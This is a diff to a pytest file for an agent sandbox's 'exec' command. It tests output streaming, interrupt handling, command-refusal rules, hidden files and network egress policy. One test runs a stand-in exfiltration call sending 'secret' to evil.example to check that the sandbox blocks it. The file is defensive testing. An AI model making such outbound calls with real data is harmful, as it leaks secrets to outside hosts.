@@ -1,13 +1,19 @@
-"""`ay-bot sandbox exec`: a command behind the wall, with its output and its exit code."""
+"""`ay-bot sandbox exec`: a command behind the wall, with its output as it comes, and its exit code."""
 
 import os
+import signal
 import subprocess
+import sys
+import time
 from pathlib import Path
 
 import pytest
 
-from ay_bot.errors import UsageError
-from ay_bot.host.sandbox_exec import Executed, Wanted, run
+from ay_bot.agent.guarding import judge_line
+from ay_bot.errors import CommandRefused, ExitCode, UsageError
+from ay_bot.host.egress import Attempt, Network
+from ay_bot.host.sandbox_exec import Executed, Wanted, choose_network, run
+from tests.host.git_repositories import make_repository
 from tests.host.sandbox.conftest import BUBBLEWRAP, DOCKER
 
 
@@ -75,3 +81,71 @@ def test_nothing_is_there_to_do_harm_to(driver: str, tmp_path: Path, monkeypatch
 def test_what_cannot_be_done_is_told(command: list[str], settings: dict[str, object], message: str) -> None:
     with pytest.raises(UsageError, match=message):
         run(command, os.environ, Wanted(**settings))
+
+
+def test_output_comes_while_the_command_runs() -> None:
+    seen: list[tuple[float, str]] = []
+    begun = time.monotonic()
+    wanted = Wanted(sandbox="bubblewrap", show=lambda text: seen.append((time.monotonic() - begun, text)))
+    done = run(["sh", "-c", "echo one; sleep 1; echo two; exit 5"], os.environ, wanted)
+    assert ([text for _, text in seen], done.exit_code) == (["one\n", "two\n"], 5)
+    assert seen[1][0] - seen[0][0] > 0.8
+
+
+def test_ctrl_c_ends_the_box(tmp_path: Path) -> None:
+    command = ["sandbox", "exec", "--driver", "bubblewrap", "--", "sh", "-c", "echo begun; sleep 97531"]
+    start = [sys.executable, "-m", "ay_bot", *command]
+    with subprocess.Popen(start, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as process:
+        assert process.stdout
+        assert process.stdout.readline() == "begun\n"
+        process.send_signal(signal.SIGINT)
+        _, complaint = process.communicate(timeout=20)
+    assert process.returncode == ExitCode.INTERRUPTED
+    assert "interrupted" in complaint
+    assert b"97531" not in subprocess.run(["ps", "ax", "-o", "args"], capture_output=True, check=True).stdout
+
+
+def test_what_a_rule_forbids_is_not_run(tmp_path: Path) -> None:
+    file = tmp_path / "policy.yml"
+    file.write_text("commands:\n  - {prefix: [touch], reason: look only}\n")
+    wanted = Wanted(sandbox="bubblewrap", policy=file, judge=judge_line)
+    with pytest.raises(CommandRefused, match="`touch x` may not be run: look only") as refused:
+        run(["sh", "-c", "true; touch x"], os.environ, wanted)
+    assert (refused.value.exit_code, refused.value.hint.split(";")[0]) == (ExitCode.DENIED, f"the rule is {file}:2")
+    assert run(["true"], os.environ, wanted).exit_code == 0
+
+
+def test_files_that_are_kept_from_agents_are_not_there(tmp_path: Path) -> None:
+    files = {"private/x": "1", "a": "2", ".github/ay-bot.yml": "files: [{paths: [private/], read: deny}]"}
+    repository = make_repository(tmp_path / "repository", files)
+    wanted = Wanted(sandbox="bubblewrap", repository=repository)
+    assert run(["ls", "-A"], os.environ, wanted).output == ".github\na\n"
+
+
+@pytest.mark.parametrize(
+    ("word", "where", "mode", "presets", "hosts"),
+    [
+        ("none", "setup", "none", (), ()),
+        ("setup", "setup", "allowlist", ("pip",), ()),
+        ("agent", "agent", "none", (), ()),
+        ("npm, example.org,pip", "setup", "allowlist", ("npm", "pip"), ("example.org",)),
+    ],
+)
+def test_a_network_is_named_in_one_word(word, where, mode, presets, hosts) -> None:
+    network = Network.model_validate({"setup": {"mode": "allowlist", "presets": ["pip"]}})
+    chosen, policy = choose_network(word, network)
+    assert (chosen, policy.mode, policy.presets) == (where, mode, presets)
+    assert tuple(rule.host for rule in policy.hosts) == hosts
+
+
+def test_a_host_that_is_not_allowed_is_refused_with_the_change_that_would_allow_it(driver: str) -> None:
+    told: list[Attempt] = []
+    ask = "import urllib.request as r\nr.urlopen('http://evil.example/?secret')"
+    wanted = Wanted(sandbox=driver, network="pip", tell=told.append)
+    done = run(["python3", "-c", ask], os.environ, wanted)
+    assert done.exit_code == 1
+    assert "403" in done.output
+    assert [(one.host, one.allowed, one.fix) for one in done.attempts] == [
+        ("evil.example", False, "add `- evil.example` to `network.setup.hosts`")
+    ]
+    assert [one.host for one in told] == ["evil.example"]
